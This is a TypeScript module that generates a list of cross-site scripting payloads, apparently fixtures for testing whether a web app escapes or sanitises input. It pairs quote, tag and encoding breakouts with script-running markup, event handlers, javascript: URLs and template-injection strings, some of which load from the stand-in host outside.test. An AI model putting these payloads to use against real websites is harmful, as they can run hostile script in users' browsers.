/**
 * What is put where words are expected, to be run as a script: each way out of where it stands, before
 * each kind of markup, address or attribute that runs. Whatever runs sets `ran` or asks an outside host.
 */

/** Ways out of text, attributes, elements with raw text, comments, scripts, and of encodings. */
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '`>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '\u0000">',
  '&quot;&gt;',
  '%22%3E',
  '\\u0022\\u003e',
  '\ud800">',
]

const RUN = 'window.ran=1'
const OUT = '//outside.test/x'

/** Kinds of markup that runs or loads by itself. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<ScRiPt src=${OUT}.js></sCrIpT>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=${OUT}.png>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video src=x onerror=${RUN}>`,
  `<audio src=${OUT}.mp3 autoplay>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<iframe src="javascript:top.ran=1"></iframe>`,
  `<iframe srcdoc="<script>top.ran=1</script>"></iframe>`,
  `<object data="data:text/html,<script>top.ran=1</script>"></object>`,
  `<embed src="${OUT}.swf">`,
  `<link rel=stylesheet href=${OUT}.css>`,
  `<style>@import "${OUT}.css";</style>`,
  `<style>*{background:url(${OUT}.png)}</style>`,
  `<base href="${OUT}/">`,
  `<meta http-equiv=refresh content="0;url=${OUT}">`,
  `<form action=${OUT}><button autofocus formaction="javascript:${RUN}">x</button></form>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<a href="jav&#x09;ascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<x contenteditable onblur=${RUN} onfocus=${RUN} autofocus tabindex=1>`,
  `<style onload=${RUN}></style>`,
] as const

/** What runs inside of an attribute, a script or an address. */
const INSIDE = [
  `" onmouseover=${RUN} autofocus onfocus=${RUN} x="`,
  `' onmouseover=${RUN} autofocus onfocus=${RUN} x='`,
  `javascript:${RUN}`,
  `data:text/html,<script>top.ran=1</script>`,
  `vbscript:${RUN}`,
  `';${RUN};//`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\u202e<img src=x onerror=${RUN}>`,
  `\u2028${RUN}//`,
  `＜script＞${RUN}＜/script＞`,
] as const

export const HOSTILE_WORDS: readonly string[] = [
  ...WAYS_OUT.flatMap((out) => MARKUP.map((markup) => out + markup)),
  ...INSIDE,
]
